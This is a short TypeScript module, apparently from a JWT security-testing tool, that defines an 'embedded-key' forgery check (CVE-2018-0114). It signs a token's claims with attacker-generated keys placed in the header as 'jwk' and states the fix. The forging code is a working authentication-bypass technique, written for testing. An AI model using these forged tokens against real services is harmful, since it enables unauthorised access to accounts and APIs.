import { attackerKeys } from './attacker-keys.ts'
import { forgeryAttack } from './forgery-attack.ts'
import { signedToken } from './jwt.ts'

export const embeddedKey = forgeryAttack({
  id: 'embedded-key',
  number: 32,
  severity: 'critical',
  cwe: 347,
  title: 'A token is verified with the key that it brings itself',
  references: ['OWASP API2:2023', 'CVE-2018-0114', 'RFC 8725 section 3.10', 'ASVS 5.0 9.1.3'],
  tokens: 4,
  oracle:
    'The real claims, signed with a key of ours that stands in the header as `jwk`, are answered as the real token is.',
  fix: 'Verify with keys that are configured; refuse tokens whose header holds `jwk`.',
  async forge({ jwt }, probe) {
    return (await attackerKeys(jwt, probe)).flatMap((key) =>
      [jwt.header.kid, key.kid].map((kid) => ({
        told: `signed with the ${key.alg} key in its own header`,
        token: signedToken({ ...jwt.header, alg: key.alg, kid, jwk: { ...key.jwk, kid } }, jwt.claims, key.privateKey),
      })),
    )
  },
})
